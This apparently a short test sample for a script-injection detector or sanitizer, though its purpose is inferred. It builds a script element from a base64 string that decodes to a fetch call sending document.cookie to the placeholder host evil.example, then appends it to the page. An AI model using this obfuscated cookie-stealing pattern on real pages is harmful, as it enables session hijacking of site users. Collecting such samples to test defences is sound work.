// tricky: code by a script element
const s = document.createElement('script');
s.textContent = atob('ZmV0Y2goImh0dHBzOi8vZXZpbC5leGFtcGxlLz9jPSIrZG9jdW1lbnQuY29va2llKQ==');
document.body.append(s);
